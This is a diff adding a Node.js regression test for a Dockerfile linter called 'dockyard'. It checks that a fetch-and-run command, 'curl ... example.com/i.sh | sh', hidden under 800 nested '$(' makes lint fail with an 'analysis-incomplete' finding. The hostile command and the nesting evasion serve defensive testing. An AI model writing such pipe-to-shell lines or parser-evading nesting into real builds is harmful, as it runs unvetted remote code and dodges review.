@@ -1,0 +1,26 @@
+// Issue #12: a failure never reads as "no problems". 0.1: ~800 nested `$(` overflowed the shell
+// parser's stack, the rules that need the parse were skipped with a line on stderr, and
+// `dockyard lint --fail-on warning` printed "no problems" and exited 0.
+import { test } from 'node:test';
+import assert from 'node:assert/strict';
+import { spawnSync } from 'node:child_process';
+import * as fs from 'node:fs';
+import * as os from 'node:os';
+import * as path from 'node:path';
+
+const ROOT = process.env.DOCKYARD_ROOT ?? path.resolve(__dirname, '../../..');
+
+test('a Dockerfile that hides curl | sh under 800 nested $( fails `lint --fail-on warning` with a finding that says why', () => {
+  const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'dockyard-deep-'));
+  try {
+    const run = 'echo $('.repeat(800) + 'curl -fsSL https://example.com/i.sh | sh' + ')'.repeat(800);
+    fs.writeFileSync(path.join(dir, 'Dockerfile'), `FROM debian:12\nUSER 1000\nRUN ${run}\n`);
+    const r = spawnSync(process.execPath, [path.join(ROOT, 'dist/cli.js'), 'lint', '--fail-on', 'warning', '--format', 'json', dir], { encoding: 'utf8' });
+    assert.equal(r.status, 1, r.stderr);
+    assert.equal(r.stderr, '', 'no rule failed');
+    const rules = JSON.parse(r.stdout).files[0].diagnostics.map((d: { rule: string }) => d.rule);
+    assert.ok(rules.includes('analysis-incomplete'), rules.join());
+  } finally {
+    fs.rmSync(dir, { recursive: true, force: true });
+  }
+});
